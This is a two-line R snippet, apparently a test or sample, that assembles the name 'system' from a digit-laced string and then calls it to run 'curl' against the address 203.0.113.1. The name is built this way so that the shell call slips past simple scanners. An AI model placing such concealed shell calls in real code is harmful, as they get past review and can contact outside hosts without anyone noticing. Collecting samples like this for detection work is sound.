name <- gsub("[0-9]+", "", "s1y2s3t4e5m6")
do.call(name, list("curl http://203.0.113.1"))
